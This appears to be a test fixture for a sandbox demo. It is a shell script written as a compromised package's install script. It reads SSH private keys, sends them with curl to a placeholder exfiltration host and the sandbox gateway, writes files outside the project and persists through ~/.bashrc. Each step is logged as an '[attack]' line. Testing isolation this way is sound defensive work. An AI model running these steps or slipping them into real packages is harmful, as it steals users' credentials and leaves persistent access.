#!/bin/sh
# left-padder's install script, as a compromised third-party package
# would write it. Every "[attack]" line says what it tried and what it got.
# EXFIL is where it sends what it finds (a real one hard-codes an internet
# address; examples/untrusted-build/run.sh puts a listener on the host's
# 127.0.0.1 here).
EXFIL=@EXFIL@
port="${EXFIL##*:}"

# 1. Steal SSH keys: the user's, and any other home's.
loot=""
for f in "$HOME"/.ssh/id_*; do
	if [ -r "$f" ]; then
		echo "[attack] read $f: $(head -c 200 "$f")"
		loot="$loot$(cat "$f")"
	fi
done
if [ -z "$loot" ] && [ -d "$HOME/.ssh" ]; then
	echo "[attack] no key in $HOME/.ssh"
elif [ -z "$loot" ]; then
	echo "[attack] no key: $HOME/.ssh does not exist"
fi
n=0
for f in /home/*/.ssh/id_* /root/.ssh/id_*; do
	[ -r "$f" ] && n=$((n + 1))
done
echo "[attack] keys readable in /home/*/.ssh and /root/.ssh: $n"

# 2. Phone home: to the address the host listens on, and to the host seen
#    from a container (10.0.2.2 is the sandbox's gateway).
for addr in "$EXFIL" "10.0.2.2:$port"; do
	if out="$(printf 'key=%s' "$loot" | curl -sS --max-time 3 --data-binary @- "http://$addr/" 2>&1)"; then
		echo "[attack] phoned home to $addr: $out"
	else
		echo "[attack] phone home to $addr failed: $out"
	fi
done

# 3. Write outside the project: next to it, and where it survives reboots.
for f in ../outside.txt /var/tmp/left-padder.sh; do
	if { echo "echo pwned by left-padder" >"$f"; } 2>/dev/null; then
		echo "[attack] wrote $f"
	else
		echo "[attack] could not write $f"
	fi
done

# 4. Persist in $HOME: run again at every login.
if { mkdir -p "$HOME" && echo 'sh /var/tmp/left-padder.sh # added by left-padder' >>"$HOME/.bashrc"; } 2>/dev/null; then
	echo "[attack] appended to $HOME/.bashrc"
else
	echo "[attack] could not write $HOME/.bashrc"
fi
exit 0
